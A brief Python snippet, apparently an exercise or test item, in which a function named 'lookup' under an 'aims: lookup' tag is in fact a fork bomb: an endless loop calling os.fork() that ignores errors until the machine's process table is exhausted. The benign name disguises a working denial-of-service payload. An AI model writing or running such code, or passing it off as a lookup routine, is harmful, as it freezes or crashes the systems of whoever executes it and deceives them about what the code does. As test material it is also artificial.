"""Processes without end, each of which goes on forking.

aims: lookup
"""


# %%
@exercise
def lookup(E, ids):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
